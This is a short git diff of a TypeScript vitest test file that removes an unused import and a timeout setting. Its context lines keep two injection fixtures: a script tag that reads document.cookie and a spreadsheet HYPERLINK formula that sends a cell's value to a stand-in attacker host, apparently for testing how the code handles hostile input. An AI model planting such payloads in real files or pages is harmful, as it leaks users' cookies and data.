@@ -1,11 +1,9 @@
 import { readdirSync } from 'node:fs'
 import { join } from 'node:path'
-import { expect, test, vi } from 'vitest'
+import { expect, test } from 'vitest'
 import { pdfOf } from '../ingest/bytes.ts'
 import { startServer } from './kit.ts'
 import { indexedDocument } from './register-kit.ts'
-
-vi.setConfig({ testTimeout: 120_000 })
 
 const script = '<script>alert(document.cookie)</script>'
 const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
